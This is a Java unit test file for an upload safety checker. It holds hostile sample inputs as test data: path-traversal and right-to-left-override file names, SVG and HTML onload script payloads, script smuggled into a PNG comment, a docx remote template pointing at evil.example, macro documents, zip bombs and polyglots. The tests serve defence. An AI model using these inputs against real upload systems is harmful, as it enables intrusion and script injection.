package org.gongkai.document.safety;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.gongkai.document.safety.MadeFiles.image;
import static org.gongkai.document.safety.MadeFiles.joined;
import static org.gongkai.document.safety.MadeFiles.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.ResourceBundle;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class FileSafetyTests {

    @TempDir
    private Path folder;

    @Test
    void kindsAreToldByContent() throws IOException {
        assertKind(MadeFiles.pdf(""), "a.pdf", FileKind.PDF, "a.pdf");
        assertKind(MadeFiles.docx("甲", ""), "公告.docx", FileKind.DOCX, "公告.docx");
        assertKind(zip(Map.of("OFD.xml", new byte[3])), "a.ofd", FileKind.OFD, "a.ofd");
        assertKind(zip(Map.of("a/甲.txt", new byte[3])), "a.zip", FileKind.ZIP, "a.zip");
        assertKind(sheet(), "a.xls", FileKind.XLS, "a.xls");
        assertKind(sheet(), "a.et", FileKind.ET, "a.et");
        assertKind(image("png"), "a.png", FileKind.PNG, "a.png");
        assertKind(image("jpg"), "照片.JPEG", FileKind.JPG, "照片.jpeg");
        assertKind(image("gif"), "a.gif", FileKind.GIF, "a.gif");
        assertKind("标题,金额\n".getBytes(UTF_8), "a.csv", FileKind.CSV, "a.csv");
        assertKind("<!DOCTYPE html><p>甲".getBytes(UTF_8), "a.htm", FileKind.HTML, "a.htm");
        assertKind("第一条".getBytes("GB18030"), "a.txt", FileKind.TXT, "a.txt");
        assertKind(
                joined(new byte[] {0, 0, 0, 20}, "ftypisom".getBytes(UTF_8), new byte[99]),
                "a.mp4",
                FileKind.MP4,
                "a.mp4");
        assertKind(joined("ID3".getBytes(UTF_8), new byte[99]), "a.mp3", FileKind.MP3, "a.mp3");
    }

    @Test
    void muchThatMayStandBeforeAnElementMakesNoFileABrokenOne() throws IOException {
        assertKind((" ".repeat(130_000) + "甲").getBytes(UTF_8), "a.txt", FileKind.TXT, "a.txt");
        assertKind(("<p>" + "<!---->".repeat(18_000)).getBytes(UTF_8), "a.html", FileKind.HTML, "a.html");
        assertKind(("<!---->".repeat(18_000) + "<p>").getBytes(UTF_8), "a.html", FileKind.HTML, "a.html");
        assertKind(("<!--".repeat(18_000) + "<p>").getBytes(UTF_8), "a.html", FileKind.HTML, "a.html");
    }

    @Test
    void aPdfWhoseTableGrowsWithoutEndIsRefusedBeforeItIsOpened() throws IOException {
        for (var kind : List.of("/Type/XRef", "/Type/Obj#53tm")) {
            assertRefused(MadeFiles.pdfOpenedBy(kind + "/Filter/FlateDecode", 129), "a.pdf", "bomb");
            assertRefused(MadeFiles.pdfOpenedBy(kind + "/Filter[/FlateDecode/FlateDecode]", 1), "a.pdf", "broken");
            assertRefused(
                    MadeFiles.pdfOpenedBy("x".repeat(20_000) + kind + "/Filter/FlateDecode", 129), "a.pdf", "bomb");
        }
        assertKind(
                MadeFiles.pdfOpenedBy("/Type/XObject/Filter[/FlateDecode/LZWDecode]", 1),
                "a.pdf",
                FileKind.PDF,
                "a.pdf");
    }

    @Test
    void misleadingNamesAreMended() throws IOException {
        assertKind(MadeFiles.pdf(""), "通知.pdf.exe", FileKind.PDF, "通知.pdf");
        assertKind(MadeFiles.pdf(""), "通知.exe.pdf", FileKind.PDF, "通知.pdf");
        assertKind(MadeFiles.pdf(""), "通知.docx", FileKind.PDF, "通知.pdf");
        assertKind(MadeFiles.pdf(""), "C:\\桌面\\..\\通知.pdf", FileKind.PDF, "通知.pdf");
        assertKind(MadeFiles.pdf(""), "../../etc/cron.d/x", FileKind.PDF, "x.pdf");
        assertKind(MadeFiles.pdf(""), "a\u202efdp.exe\u0000\r\n", FileKind.PDF, "afdp.pdf");
        assertKind(MadeFiles.pdf(""), "一".repeat(300) + ".pdf", FileKind.PDF, "一".repeat(100) + ".pdf");
        assertKind(MadeFiles.pdf(""), "", FileKind.PDF, "file.pdf");
        assertKind(MadeFiles.pdf(""), "2026.3.1 报告.pdf", FileKind.PDF, "2026.3.1 报告.pdf");
        assertKind(MadeFiles.pdf(""), "a<b>:\"c\"?.pdf", FileKind.PDF, "a_b___c__.pdf");
    }

    @Test
    void namesThatSayWhatAFileIsStayAsTheyAre() throws IOException {
        assertThat(inspected("临审发〔2026〕3号 关于……的通知（附件1）.pdf", MadeFiles.pdf("")))
                .isInstanceOfSatisfying(
                        Verdict.Fine.class, fine -> assertThat(fine.remarks()).isEmpty());
    }

    @Test
    void whatRunsIsRefused() throws IOException {
        assertRefused("MZ\0\0".getBytes(UTF_8), "a.pdf", "program");
        assertRefused("#!/bin/sh\nrm".getBytes(UTF_8), "a.txt", "program");
        assertRefused("<?xml version=\"1.0\"?><!-- x --><svg onload=\"alert(1)\"/>".getBytes(UTF_8), "a.png", "svg");
        assertRefused(
                ("\n <!-- x -->".repeat(9_000) + "<!DOCTYPE svg [<!ENTITY a \"b\">]>\n<s:SVG/>").getBytes(UTF_8),
                "a.txt",
                "svg");
        var macros = MadeFiles.docxParts("甲", "");
        macros.put("word/vbaProject.bin", new byte[9]);
        assertRefused(zip(macros), "a.docx", "macros");
        var renamed = MadeFiles.docxParts("甲", "");
        renamed.put(
                "[Content_Types].xml", "<x>application/vnd.ms-word.document.macroEnabled.main+xml</x>".getBytes(UTF_8));
        assertRefused(zip(renamed), "a.docx", "macros");
        assertRefused(sheetWith("_VBA_PROJECT_CUR"), "a.xls", "macros");
        assertRefused(zip(Map.of("setup.exe", new byte[3])), "a.zip", "program-in-archive");
        assertRefused(zip(Map.of("a.zip", new byte[3])), "a.zip", "archive-in-archive");
        assertRefused(zip(Map.of("../../a.txt", new byte[3])), "a.zip", "path-in-archive");
        var template = MadeFiles.docxParts("甲", "");
        template.put(
                "word/_rels/settings.xml.rels",
                "<R Type=\"x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>"
                        .getBytes(UTF_8));
        assertRefused(zip(template), "a.docx", "template-elsewhere");
    }

    @Test
    void whatIsLockedIsRefused() throws IOException {
        assertRefused(MadeFiles.lockedPdf(), "a.pdf", "locked");
        assertRefused(sheetWith("EncryptedPackage"), "a.xlsx", "locked");
        var locked = zip(Map.of("a.txt", new byte[3]));
        var directory = locked.length - 22 - 46 - 5;
        locked[directory + 8] |= 1;
        assertRefused(locked, "a.zip", "locked");
    }

    @Test
    void whatIsTwoKindsAtOnceIsRefused() throws IOException {
        var archive = zip(Map.of("a.class", new byte[9]));
        assertRefused(joined(MadeFiles.pdf(""), archive), "a.pdf", "two-kinds");
        assertRefused(joined(image("gif"), archive), "a.gif", "two-kinds");
        assertRefused(joined(image("jpg"), archive), "a.jpg", "two-kinds");
        assertRefused(MadeFiles.pngWith("tEXt", "Comment\0<script>alert(1)</script>"), "a.png", "two-kinds");
        assertRefused(joined(image("gif"), "<html><body onload=alert(1)>".getBytes(UTF_8)), "a.gif", "two-kinds");
    }

    @Test
    void whatGrowsBeyondMeasureIsRefused() throws IOException {
        assertRefused(zip(Map.of("a.txt", new byte[40 << 20])), "a.zip", "bomb");
        var many = new LinkedHashMap<String, byte[]>();
        for (var i = 0; i < 10_001; i++) {
            many.put("a" + i, new byte[0]);
        }
        assertRefused(zip(many), "a.zip", "bomb");
        assertRefused(MadeFiles.pngDeclaring(60_000, 60_000), "a.png", "too-many-pixels");
        assertRefused(MadeFiles.pngDeclaring(0x7fffffff, 0x7fffffff), "a.png", "too-many-pixels");
    }

    @Test
    void whatIsNothingIsRefused() throws IOException {
        assertRefused(new byte[0], "a.pdf", "empty");
        assertRefused("%PDF-1.7 and then nothing".getBytes(UTF_8), "a.pdf", "broken");
        assertRefused(new byte[] {'P', 'K', 3, 4, 0, 0}, "a.docx", "broken");
        assertRefused("{\\rtf1 x}".getBytes(UTF_8), "a.doc", "unknown");
        assertRefused(joined("Rar!".getBytes(UTF_8), new byte[20]), "a.rar", "unknown");
    }

    @Test
    void damagedFilesAreRefusedAndNeverMore() throws IOException {
        var random = new Random(7);
        var whole = new byte[][] {
            MadeFiles.pdf("x"), MadeFiles.docx("甲", "乙"), sheet(), image("png"), image("jpg"), MadeFiles.jpegWithExif(6)
        };
        for (var i = 0; i < 400; i++) {
            var file = whole[i % whole.length].clone();
            for (var j = 0; j < 1 + random.nextInt(8); j++) {
                file[random.nextInt(file.length)] = (byte) random.nextInt();
            }
            var path = Files.write(folder.resolve("damaged"), file);
            if (FileSafety.inspect("a", path) instanceof Verdict.Fine fine) {
                MetadataRemoval.of(fine.kind(), path, Files.write(folder.resolve("to"), new byte[0]));
            }
        }
        assertThat(folder.resolve("damaged")).exists();
    }

    private void assertKind(byte[] content, String name, FileKind kind, String clean) throws IOException {
        assertThat(inspected(name, content)).as(name).isInstanceOfSatisfying(Verdict.Fine.class, fine -> {
            assertThat(fine.kind()).isEqualTo(kind);
            assertThat(fine.name()).isEqualTo(clean);
        });
    }

    private void assertRefused(byte[] content, String name, String reason) throws IOException {
        assertThat(inspected(name, content)).as(name).isInstanceOfSatisfying(Verdict.Refused.class, refused -> {
            assertThat(refused.why().key()).isEqualTo("safety." + reason);
            assertThat(ResourceBundle.getBundle("messages.safety")
                            .containsKey(refused.why().key()))
                    .isTrue();
        });
    }

    private Verdict inspected(String name, byte[] content) throws IOException {
        return FileSafety.inspect(name, Files.write(folder.resolve("file"), content));
    }

    private static byte[] sheet() {
        return MadeFiles.bytes(target -> {
            try (var book = new HSSFWorkbook()) {
                book.createSheet("甲").createRow(0).createCell(0).setCellValue(1);
                book.createInformationProperties();
                book.getSummaryInformation().setAuthor("张审之");
                book.write(target);
            }
        });
    }

    private static byte[] sheetWith(String entry) {
        return MadeFiles.bytes(target -> {
            try (var files = new POIFSFileSystem(new java.io.ByteArrayInputStream(sheet()))) {
                files.getRoot().createDirectory(entry);
                var changed = new ByteArrayOutputStream();
                files.writeFilesystem(changed);
                target.writeBytes(changed.toByteArray());
            }
        });
    }
}
